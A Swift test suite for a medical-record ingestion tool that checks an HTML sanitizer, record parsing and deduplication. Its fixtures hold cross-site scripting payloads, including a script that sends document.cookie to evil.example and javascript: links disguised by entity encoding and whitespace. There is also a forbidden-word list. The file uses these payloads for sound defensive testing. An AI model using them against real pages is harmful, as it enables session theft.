import Foundation
import LLM
import Sentinel
import Testing

/// Record ingestion: the three document forms, hostile narratives, and each record only once.
@Suite struct RecordIngestionTests {
    /// A narrative with every trick: script and style content, event handlers, javascript: links
    /// (plain, entity-encoded, split by whitespace), an unknown tag, a comment and an unclosed script.
    static let hostileDiv = """
        <div xmlns="http://www.w3.org/1999/xhtml"><h2>Discharge summary</h2>\
        <p onclick="steal()">Admitted 2024-03-02 after an overdose; <b>stabilized</b> &amp; discharged on sertraline 50&#160;mg.</p>\
        <script type="text/javascript">fetch('https://evil.example/?'+document.cookie)</script>\
        <style>body { background: url(javascript:alert(1)) }</style>\
        <img src="x" onerror="alert('img')" alt="scan"/>\
        <a href="javascript:alert('link')">Follow-up</a> with <a href=" jav&#x61;script:alert(2)">Dr. Reyes</a> in 7 days.\
        <a href="java\tscript:alert(3)">Safety plan</a> reviewed.<SCRIPT>alert('upper')</SCRIPT>\
        <marquee onmouseover='alert("x")'>Lethal means counselling done.</marquee><!-- <script>alert(4)</script> -->\
        <table><tr><td>PHQ-9</td><td>18</td></tr></table><script>never closed alert(5)
        </div>
        """

    static let forbidden = ["alert", "script", "onerror", "onclick", "onmouseover", "steal", "evil.example", "cookie", "background"]

    @Test func sanitizerKeepsOnlyTheText() {
        let result = NarrativeSanitizer.sanitize(Self.hostileDiv)
        for word in Self.forbidden { #expect(!result.text.lowercased().contains(word), "\(word) survived: \(result.text)") }
        #expect(!result.text.contains("<"))
        #expect(result.text.contains("Discharge summary"))
        #expect(result.text.contains("Admitted 2024-03-02 after an overdose; stabilized & discharged on sertraline 50 mg."))
        #expect(result.text.contains("Follow-up with Dr. Reyes in 7 days."))
        #expect(result.text.contains("Safety plan reviewed."))
        #expect(result.text.contains("Lethal means counselling done."))
        #expect(result.text.contains("PHQ-9 18"))
        #expect(result.droppedElements.filter { $0 == "script" }.count == 3)
        #expect(result.droppedElements.contains("style"))
        #expect(result.eventHandlersRemoved == 3)
        #expect(result.scriptLinksRemoved == 3)
        #expect(result.unknownTagsRemoved >= 1, "marquee is not on the allow-list")
        #expect(result.hadActiveContent)
    }

    @Test func sanitizerHandlesQuotesAndNonTags() {
        let result = NarrativeSanitizer.sanitize(#"<p title="a > b" onload='x>y'>BP &lt; 120 and a < b</p><p>Next &unknown; line</p>"#)
        #expect(result.text == "BP < 120 and a < b\nNext &unknown; line")
        #expect(result.eventHandlersRemoved == 1)
        #expect(NarrativeSanitizer.sanitize("<ul><li>one</li><li>two</li></ul>").text == "- one\n- two")
        let cdata = NarrativeSanitizer.sanitize("<div><![CDATA[Calm. <script>alert(1)</script>]]></div>")
        #expect(cdata.text == "Calm.")
        #expect(cdata.droppedElements == ["script"])
    }

    // MARK: The three forms

    static func simplified(_ div: String) -> Data {
        try! JSONSerialization.data(withJSONObject: ["text": ["div": div]])
    }

    static func documentReference(_ text: String, date: String = "2024-03-05") -> Data {
        try! JSONSerialization.data(withJSONObject: [
            "resourceType": "DocumentReference",
            "status": "current",
            "date": date,
            "type": ["text": "Discharge summary"],
            "content": [
                ["attachment": ["contentType": "application/pdf", "url": "https://example.org/doc.pdf"]],
                ["attachment": ["contentType": "text/plain; charset=utf-8", "data": Data(text.utf8).base64EncodedString()]],
            ],
        ] as [String: Any])
    }

    static func composition(_ sectionDiv: String) -> Data {
        try! JSONSerialization.data(withJSONObject: [
            "resourceType": "Composition",
            "title": "Inpatient discharge",
            "date": "2024-03-06T10:00:00Z",
            "section": [
                ["title": "Hospital course", "text": ["div": sectionDiv]],
                ["title": "Medications", "text": ["div": "<div><ul><li>Sertraline 50 mg</li></ul></div>"],
                 "section": [["title": "Stopped", "text": ["div": "<div>Zolpidem <script>alert(9)</script></div>"]]]],
            ],
        ] as [String: Any])
    }

    @Test func parsesTheThreeFormsAndSanitizesEveryNarrative() throws {
        let simple = try MedicalRecordParser.parse(Self.simplified(Self.hostileDiv), file: "a.json")
        #expect(simple.form == .narrative)
        #expect(simple.text.contains("discharged on sertraline"))
        #expect(simple.activeContentRemoved == 10)

        let reference = try MedicalRecordParser.parse(Self.documentReference("Discharged 2024-03-05.\nFollow-up in clinic."), file: "b.json")
        #expect(reference.form == .documentReference)
        #expect(reference.text == "Discharged 2024-03-05.\nFollow-up in clinic.")
        #expect(reference.kind == "Discharge summary")
        #expect(reference.date != nil)
        // Markup hidden in a text/plain attachment is treated as markup.
        let sneaky = try MedicalRecordParser.parse(Self.documentReference("Fine.<script>alert(1)</script><img src=x onerror=alert(2)>"),
                                                   file: "c.json")
        #expect(sneaky.text == "Fine.")
        #expect(sneaky.activeContentRemoved == 2)

        let composition = try MedicalRecordParser.parse(Self.composition(Self.hostileDiv), file: "d.json")
        #expect(composition.form == .composition)
        #expect(composition.kind == "Inpatient discharge")
        #expect(composition.text.contains("Hospital course:"))
        #expect(composition.text.contains("- Sertraline 50 mg"))
        #expect(composition.text.contains("Stopped: Zolpidem"))
        for word in Self.forbidden { #expect(!composition.text.lowercased().contains(word)) }
    }

    @Test func unreadableFilesAreClearErrors() {
        #expect(throws: MedicalRecordError.notJSON(file: "x.json")) { try MedicalRecordParser.parse(Data("nope".utf8), file: "x.json") }
        let noAttachment = try! JSONSerialization.data(withJSONObject: ["resourceType": "DocumentReference", "content": []] as [String: Any])
        #expect(throws: MedicalRecordError.noTextAttachment(file: "y.json")) { try MedicalRecordParser.parse(noAttachment, file: "y.json") }
        let patient = try! JSONSerialization.data(withJSONObject: ["resourceType": "Patient"])
        #expect(throws: MedicalRecordError.unsupportedForm(file: "z.json", resourceType: "Patient")) {
            try MedicalRecordParser.parse(patient, file: "z.json")
        }
        #expect(throws: MedicalRecordError.empty(file: "e.json")) {
            try MedicalRecordParser.parse(Self.simplified("<div><script>alert(1)</script></div>"), file: "e.json")
        }
    }

    // MARK: The inbox

    func fillInbox(_ inbox: URL) throws {
        try FileManager.default.createDirectory(at: inbox, withIntermediateDirectories: true)
        try Self.simplified(Self.hostileDiv).write(to: inbox.appendingPathComponent("1-simplified.json"))
        try Self.documentReference("Discharged after 3 days. Quetiapine started.").write(to: inbox.appendingPathComponent("2-reference.json"))
        try Self.composition(Self.hostileDiv).write(to: inbox.appendingPathComponent("3-composition.json"))
    }

    @Test func inboxIngestsEachFormOnceWithTheModel() async throws {
        let scratch = StoreScratch()
        let store = try SentinelStore(directory: scratch.data)
        try fillInbox(store.defaultInboxURL)
        try Data("not json".utf8).write(to: store.defaultInboxURL.appendingPathComponent("4-broken.json"))
        let model = ScriptedModel()
        model.add(.init(matcher: .any, reply: .compute { request in
            "Memory updated with record \(request.promptText.contains("Quetiapine") ? "Q" : "other") and its follow-up. <<END_OF_REPORT>>"
        }))
        let inbox = RecordInbox(store: store, compressor: NarrativeCompressor(model: model, budget: .seconds(600)))
        let report = try await inbox.ingestAll()
        #expect(report.ingestedCount == 3)
        #expect(report.rejectedCount == 1)
        let statuses = report.files.map(\.status)
        #expect(statuses.first == .ingested(form: .narrative, narrative: .integrated, activeContentRemoved: 10))
        #expect(statuses.dropFirst().first == .ingested(form: .documentReference, narrative: .integrated, activeContentRemoved: 0))
        // The model saw sanitized text only, inside the context-ingestion prompt.
        #expect(model.requests.count == 3)
        for request in model.requests {
            #expect(request.promptText.contains("A medical record arrived"))
            for word in Self.forbidden { #expect(!request.promptText.lowercased().contains(word)) }
        }
        #expect(try store.longitudinalState().narrative == "Memory updated with record other and its follow-up.")
        #expect(try store.longitudinalState().lastNarrativeUpdate?.status == .integrated)
        // Processed files left the inbox (the broken one stays) and are sealed in the data directory.
        let left = try FileManager.default.contentsOfDirectory(atPath: store.defaultInboxURL.path)
        #expect(left == ["4-broken.json"])
        let processed = try FileManager.default.contentsOfDirectory(at: store.processedURL, includingPropertiesForKeys: nil)
        #expect(processed.count == 3)
        #expect(try StoreScratch.files(under: scratch.data, containing: "Quetiapine").isEmpty)
        #expect(try StoreScratch.files(under: scratch.data, containing: "sertraline").isEmpty)
        let opened = try processed.map { String(decoding: try store.openProcessedRecord(try Data(contentsOf: $0)), as: UTF8.self) }
        #expect(opened.contains { $0.contains("DocumentReference") })
    }

    @Test func nothingIsIngestedTwiceAcrossRuns() async throws {
        let scratch = StoreScratch()
        let first = try SentinelStore(directory: scratch.data)
        let inboxURL = scratch.root.appendingPathComponent("downloads", isDirectory: true)
        try fillInbox(inboxURL)
        let firstRun = try await RecordInbox(store: first, inbox: inboxURL, compressor: .withoutModel()).ingestAll()
        #expect(firstRun.ingestedCount == 3)
        let narrative = try first.longitudinalState().narrative
        #expect(narrative.components(separatedBy: "\n").count == 3, "one dated line per record without a model")
        #expect(narrative.contains("] Inpatient discharge: Hospital course:"))
        #expect(narrative.contains("] Discharge summary: Discharged after 3 days. Quetiapine started."))
        try first.close()

        // A second run (a new process: the store reopened) finds an empty inbox …
        let second = try SentinelStore(directory: scratch.data)
        let secondRun = try await RecordInbox(store: second, inbox: inboxURL, compressor: .withoutModel()).ingestAll()
        #expect(secondRun.files.isEmpty)
        // … and the same files dropped in again are recognised and not ingested again.
        try fillInbox(inboxURL)
        let thirdRun = try await RecordInbox(store: second, inbox: inboxURL, compressor: .withoutModel()).ingestAll()
        #expect(thirdRun.duplicateCount == 3)
        #expect(thirdRun.ingestedCount == 0)
        #expect(try second.longitudinalState().narrative == narrative)
        #expect(try second.ingestedRecordCount() == 3)
        #expect(try FileManager.default.contentsOfDirectory(atPath: inboxURL.path).isEmpty)
    }

    @Test func appendedLinesStayWithinTheNarrativeBudget() {
        let compressor = NarrativeCompressor(loadingModel: nil, maxNarrativeCharacters: 300)
        var narrative = ""
        for index in 0..<10 {
            narrative = compressor.appending(NarrativeCompressor.summaryLine(String(repeating: "word\(index) ", count: 60),
                                                                             kind: "discharge summary", day: "2024-03-0\(index % 9 + 1)"),
                                             to: narrative)
        }
        #expect(narrative.count <= 300)
        #expect(narrative.contains("word9"), "the newest line is kept")
        #expect(!narrative.contains("word0"), "the oldest lines gave way")
    }
}
